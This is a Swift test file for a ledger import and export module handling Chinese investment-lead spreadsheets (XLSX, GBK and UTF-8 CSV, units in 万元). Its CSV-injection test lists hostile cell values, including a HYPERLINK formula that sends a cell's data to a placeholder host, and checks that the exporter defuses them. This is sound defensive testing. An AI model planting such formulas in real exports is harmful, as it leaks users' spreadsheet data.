import Foundation
import Matching
import Testing

@testable import LeadMessages
@testable import Ledger

/// The realistic ledger of Resources/ (make-ledger.py): a title row, merged cells, a blank row,
/// full-width digits, amounts in 万元, a date cell, a total line, traps.
@Suite struct LedgerImportTests {
    func resource(_ name: String) throws -> Data {
        let url = try #require(Bundle.module.url(forResource: "Resources/\(name)", withExtension: nil))
        return try Data(contentsOf: url)
    }

    func plan() throws -> ImportPlan {
        let table = try XLSXTable.read(try resource("huiji-ledger-2023.xlsx"))
        let columns = try LedgerColumns.detect(in: table)
        let existing = [
            ImportPlan.KnownLead(leadId: "L-000001", companyName: "中建七局", projectName: "花园口智能制造产业园建设项目")
        ]
        return ImportPlan.make(
            table: table, columns: columns, existing: existing,
            duplicateThreshold: try ReferenceData.loadRules().likelyDuplicateSimilarity)
    }

    /// Excel and WPS on a Chinese Windows save "CSV (逗号分隔)" in GBK: read as the UTF-8 file is.
    /// An .xls is refused with how to convert it; bytes in no encoding are refused.
    @Test func aGBKCSVReadsLikeItsUTF8TwinAndAnXLSIsRefusedWithAWayOut() throws {
        let utf8 = try LedgerFile.table(try resource("huiji-ledger-2023.csv"), name: "台账.csv")
        let gbk = try LedgerFile.table(try resource("huiji-ledger-2023.gbk.csv"), name: "台账.csv")
        #expect(gbk == utf8)
        #expect(gbk.rows.contains { $0.cells.contains { $0.contains("中建七局") } }, "\(gbk.rows.prefix(3))")
        let xls = Data([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1] + [UInt8](repeating: 0, count: 64))
        #expect(throws: LedgerError.self) { try LedgerFile.table(xls, name: "台账.xls") }
        do {
            _ = try LedgerFile.table(xls, name: "台账.xls")
        } catch let error as LedgerError {
            #expect(error.description.contains("另存为 .xlsx"))
        }
        #expect(throws: LedgerError.self) { try LedgerFile.table(Data([0x41, 0x2C, 0xFF, 0x80, 0x0A]), name: "x.csv") }
    }

    /// Headers as other districts write them (issue 18): each found by what it means.
    @Test func headersOtherDistrictsWriteAreRecognized() throws {
        let header = [
            "序号", "客商名称", "投资方所在地", "项目名称", "计划总投资（亿元）", "产业类型", "合同金额（万元）", "签订日期", "拟落户园区",
            "招商责任人", "推进情况", "企业联系人",
        ]
        let table = LedgerTable(rows: [LedgerTable.Row(number: 1, cells: header)])
        let columns = try LedgerColumns.detect(in: table)
        let expected: [LedgerField: Int] = [
            .companyName: 1, .headquarters: 2, .projectName: 3, .estimatedInvestment: 4, .industry: 5,
            .signedAmount: 6, .signedAt: 7, .carrierPark: 8, .officer: 9, .stage: 10,
        ]
        #expect(columns.columns == expected)
        #expect(columns.unitYuan[.estimatedInvestment] == 100_000_000 && columns.unitYuan[.signedAmount] == 10_000)
        #expect(columns.ignoredHeaders == ["序号", "企业联系人"], "the company's contact is not the officer")
    }

    /// An industry in the officer's words is read through the matcher's lexicon, with a note saying so.
    @Test func industryWordsOfficersTypeAreReadThroughTheLexicon() throws {
        let table = LedgerTable(rows: [
            LedgerTable.Row(number: 1, cells: ["企业名称", "总部所在地", "项目名称", "所属产业"]),
            LedgerTable.Row(number: 2, cells: ["甲公司", "北京", "文旅综合体", "文化旅游"]),
            LedgerTable.Row(number: 3, cells: ["乙公司", "上海", "物流园", "现代物流"]),
            LedgerTable.Row(number: 4, cells: ["丙公司", "深圳", "某项目", "说不清"]),
        ])
        let columns = try LedgerColumns.detect(in: table)
        let lexicon = IndustryLexicon(data: try ReferenceData.load(overrideDirectory: nil))
        let plan = ImportPlan.make(
            table: table, columns: columns, existing: [], duplicateThreshold: 0.9, lexicon: lexicon)
        let byCompany = Dictionary(uniqueKeysWithValues: plan.creations.map { ($0.submission.companyName, $0) })
        for company in ["甲公司", "乙公司"] {
            let entry = try #require(byCompany[company])
            let industry = try #require(entry.submission.industry, "\(company): \(entry.notes)")
            #expect(Industry(rawValue: industry) != nil && industry != Industry.other.rawValue)
            #expect(entry.notes.contains { $0.contains("按词典识别为") }, "\(entry.notes)")
        }
        #expect(byCompany["丙公司"]?.submission.industry == nil, "a word the lexicon does not know is left out")
        let without = ImportPlan.make(table: table, columns: columns, existing: [], duplicateThreshold: 0.9)
        #expect(without.creations.allSatisfy { $0.submission.industry == nil })
    }

    @Test func theHeaderIsFoundBelowTheTitleAndItsUnitsRead() throws {
        let table = try XLSXTable.read(try resource("huiji-ledger-2023.xlsx"))
        let columns = try LedgerColumns.detect(in: table)
        #expect(columns.headerRow == 3)
        #expect(columns.columns[.companyName] == 1)
        #expect(columns.columns[.estimatedInvestment] == 5)
        #expect(columns.unitYuan[.estimatedInvestment] == 10_000)
        #expect(columns.unitYuan[.signedAmount] == 10_000)
        #expect(columns.columns[.officer] == 9)
        #expect(columns.ignoredHeaders == ["序号", "备注"])
    }

    @Test func everyRowGetsItsAction() throws {
        let plan = try plan()
        let summary = plan.lines.map { line -> String in
            switch line.action {
            case .create: "\(line.row) create"
            case .duplicate(_, let of): "\(line.row) duplicate of \(of)"
            case .skip: "\(line.row) skip"
            case .reject(let field, _): "\(line.row) reject \(field)"
            }
        }
        #expect(
            summary == [
                "4 duplicate of L-000001",  // the same company and, reworded, the same project as L-000001
                // Row 7 is blank: Excel writes no cells for it, so it is not there at all.
                "5 create", "6 create", "8 duplicate of row 5", "9 reject projectName", "10 create",
                "11 create", "12 reject signedAt", "13 skip",
            ])
    }

    @Test func valuesAreReadAsTheOfficerMeantThem() throws {
        let entries = Dictionary(
            uniqueKeysWithValues: try plan().lines.compactMap { line -> (Int, LedgerEntry)? in
                switch line.action {
                case .create(let entry), .duplicate(let entry, _): (line.row, entry)
                default: nil
                }
            })
        let zhongjian = try #require(entries[4])
        #expect(zhongjian.submission.estimatedInvestment == "1230000000")  // 123000 万元
        #expect(zhongjian.stage == .signed)
        #expect(zhongjian.signing == LedgerSigning(amountYuan: "1230000000", signedAt: "2023-03-05T00:00:00+08:00"))
        #expect(zhongjian.submission.officer == "王敏")
        let huawei = try #require(entries[5])
        #expect(huawei.submission.estimatedInvestment == "2000000000")  // full-width ２０００００ 万元
        #expect(huawei.submission.officer == "王敏")  // the merged 负责人 cell covers rows 4–6
        #expect(huawei.stage == .negotiating)
        #expect(huawei.signing == nil)
        let tencent = try #require(entries[6])
        #expect(tencent.submission.estimatedInvestment == "450000000")  // 4.5亿 says its own unit
        #expect(tencent.stage == .negotiating)  // 洽谈中
        let sdic = try #require(entries[10])
        #expect(sdic.signing == LedgerSigning(amountYuan: "123000", signedAt: "2023-06-18T00:00:00+08:00"))
        #expect(sdic.submission.estimatedInvestment == "123000")  // 12.300000000000001 万元, to the fen
        // 新能源 is not one of the district's industries: left out, with a note, for the matcher to infer.
        #expect(sdic.submission.industry == nil)
        #expect(sdic.notes.count == 1 && sdic.notes[0].contains("新能源"))
        #expect(zhongjian.notes.isEmpty)
    }

    @Test func theCSVExportReadsTheSame() throws {
        let table = CSVTable.parse(String(decoding: try resource("huiji-ledger-2023.csv"), as: UTF8.self))
        let columns = try LedgerColumns.detect(in: table)
        #expect(columns.headerRow == 2)
        let plan = ImportPlan.make(table: table, columns: columns, existing: [], duplicateThreshold: 0.5)
        let actions = plan.lines.map(\.action)
        guard case .create(let zhongjian) = actions[0], case .create(let huawei) = actions[1],
            case .create(let tencent) = actions[2]
        else {
            Issue.record("unexpected plan \(actions)")
            return
        }
        #expect(zhongjian.signing?.signedAt == "2023-03-05T00:00:00+08:00")  // 2023/3/5
        #expect(huawei.submission.companyName == "華為技術（深圳）有限公司")
        #expect(huawei.submission.estimatedInvestment == "2000000000")
        #expect(tencent.submission.projectName == "元宇宙文旅体验中心")
        #expect(plan.lines.count == 5)  // 3 leads, the blank row and the total line
        #expect(plan.lines.last?.action == .skip(reason: "total line / 合计行"))
    }
}

/// A ledger whose rows have a 签约时间 but no 阶段 and no 签约金额 (issue 21): signings, with the
/// investment as their amount; without one, leads, and the dry run says so.
@Suite struct SigningDateOnlyTests {
    @Test func aSigningDateAloneIsASigningOrSaysWhyNot() throws {
        let csv = """
            企业名称,总部所在地,项目名称,投资额（万元）,签约时间,阶段
            中建七局,郑州,数据中心,120000,2023/3/5,
            比亚迪,深圳,电池基地,,2023-03-06,
            腾讯,深圳,文旅中心,5000,2023-03-07,在谈
            """
        let table = CSVTable.parse(csv)
        let plan = ImportPlan.make(
            table: table, columns: try LedgerColumns.detect(in: table), existing: [], duplicateThreshold: 0.5)
        let entries = plan.lines.compactMap { line -> LedgerEntry? in
            if case .create(let entry) = line.action { return entry }
            return nil
        }
        #expect(entries.count == 3)
        #expect(entries[0].stage == .signed)
        #expect(entries[0].signing?.amountYuan == "1200000000")
        #expect(entries[0].signing?.signedAt == "2023-03-05T00:00:00+08:00")
        #expect(entries[0].notes.contains { $0.contains("按投资额记为签约金额") })
        #expect(entries[1].stage == nil && entries[1].signing == nil)
        #expect(entries[1].notes.contains { $0.contains("未记录签约") })
        #expect(entries[2].stage == .negotiating && entries[2].signing == nil)
        #expect(entries[2].notes.contains { $0.contains("签约时间未导入") })
    }
}

@Suite struct LedgerValueTests {
    @Test(arguments: [
        ("4500", Int64(10_000), "45000000"), ("１，２００．５", 10_000, "12005000"), ("12.3亿", 10_000, "1230000000"),
        ("4500万元", 1, "45000000"), ("0.01", 1, "0.01"), ("12.300000000000001", 100_000_000, "1230000000"),
    ])
    func amounts(_ text: String, _ unit: Int64, _ yuan: String) {
        #expect(LedgerValues.yuan(text, unitYuan: unit) == .success(yuan))
    }

    @Test func badAmounts() {
        if case .success = LedgerValues.yuan("about 5000", unitYuan: 1) { Issue.record("accepted words") }
        if case .success = LedgerValues.yuan("-5", unitYuan: 1) { Issue.record("accepted a negative") }
    }

    @Test(arguments: [
        ("2023-03-05", "2023-03-05"), ("2023/3/5", "2023-03-05"), ("2023.3.5", "2023-03-05"),
        ("2023年3月5日", "2023-03-05"), ("20230305", "2023-03-05"), ("44990", "2023-03-05"),
        ("２０２３－０３－０５", "2023-03-05"), ("2023-03-05 10:30", "2023-03-05"),
    ])
    func dates(_ text: String, _ date: String) {
        #expect(LedgerValues.date(text)?.description == date)
    }

    @Test func notDates() {
        for text in ["下周", "2023-13-01", "2023-02-30", "3/5", "1899-01-01"] {
            #expect(LedgerValues.date(text) == nil, "\(text)")
        }
    }

    @Test(arguments: [
        ("洽谈中", Stage.negotiating), ("已签约", .signed), ("在谈", .negotiating), ("signed", .signed), ("已投产", .operating),
    ])
    func stages(_ text: String, _ stage: Stage) {
        #expect(LedgerValues.stage(text) == stage)
    }

    @Test func csvQuoting() {
        let table = CSVTable.parse("a,\"b,c\",\"d \"\"q\"\"\"\r\n\"multi\nline\",x\n")
        #expect(table.rows.map(\.cells) == [["a", "b,c", "d \"q\""], ["multi\nline", "x"]])
        #expect(table.rows.map(\.number) == [1, 2])
    }

    @Test func headerFolding() {
        #expect(LedgerColumns.fold("投资额（万元）*").name == "投资额")
        #expect(LedgerColumns.fold("投资额（万元）*").unit == 10_000)
        #expect(LedgerColumns.known("项目负责人") == .officer)
        #expect(LedgerColumns.known("计划总投资") == .estimatedInvestment)
        #expect(LedgerColumns.known("企业名称（全称）") == .companyName)
    }
}

@Suite struct LedgerExportTests {
    @Test func aWorkbookReadsBackCellForCell() throws {
        let rows: [[XLSXWriter.Cell]] = [
            [.text("L-000001"), .text("華為技術 & <Co> \"HK\""), .number("12345.678901"), .text("0371")],
            [.text("L-000002"), .text("tab\tand\nline"), .number("0"), .text("")],
        ]
        let data = try XLSXWriter.workbook(sheetName: "线索台账", header: ["线索编号", "企业名称", "投资额（万元）", "区号"], rows: rows)
        let table = try XLSXTable.read(data)
        #expect(
            table.rows.map(\.cells) == [
                ["线索编号", "企业名称", "投资额（万元）", "区号"],
                ["L-000001", "華為技術 & <Co> \"HK\"", "12345.678901", "0371"],
                ["L-000002", "tab\tand\nline", "0", ""],
            ])
    }

    @Test func numbersOnlyWhenTheyAreNumbers() {
        #expect(XLSXWriter.cell("4500") == .number("4500"))
        #expect(XLSXWriter.cell("12.5") == .number("12.5"))
        #expect(XLSXWriter.cell("0371") == .text("0371"))
        #expect(XLSXWriter.cell("91410100MA44XXXX1X") == .text("91410100MA44XXXX1X"))
        #expect(XLSXWriter.cell("1e5") == .text("1e5"))
        #expect(
            XLSXWriter.columnName(0) == "A" && XLSXWriter.columnName(25) == "Z" && XLSXWriter.columnName(26) == "AA")
    }

    /// CSV injection (OWASP): read back as a spreadsheet would split it, no cell of user text starts
    /// like a formula; numbers written as numbers, negative ones too, stay numbers.
    @Test func noCSVCellOfUserTextIsAFormula() {
        let hostile = [
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "+1+1", "-1+1", "@SUM(A1)", "\tcmd", "\r=1",
        ]
        let rows: [[XLSXWriter.Cell]] = hostile.map { [.text($0), .number("-12.5"), .text("-3")] }
        let csv = LedgerExport.csv(header: ["企业名称", "金额", "备注"], rows: rows)
        let cells = CSVTable.parse(csv).rows.dropFirst().map(\.cells)
        #expect(cells.map { $0[0] } == hostile.map { "'" + $0 })
        #expect(cells.allSatisfy { $0[1] == "-12.5" && $0[2] == "-3" })
        for cell in cells.flatMap({ $0 }) where !CSVField.isPlainNumber(cell) {
            #expect(!"=+-@\t\r".contains(cell.first ?? " "), "\(cell) would run as a formula")
        }
    }

    @Test func amountsInWanAreExact() {
        #expect(LedgerExport.wan(Money(fen: 123_000_000_000)) == "123000")
        #expect(LedgerExport.wan(Money(fen: 12_345_678_901)) == "12345.678901")
        #expect(LedgerExport.wan(Money(fen: 50)) == "0.00005")
    }

    @Test func csvQuotesWhatItMust() {
        let text = LedgerExport.csv(header: ["a", "b"], rows: [[.text("x,y"), .text("say \"hi\"")]])
        #expect(text == "\u{FEFF}a,b\r\n\"x,y\",\"say \"\"hi\"\"\"\r\n")
    }
}
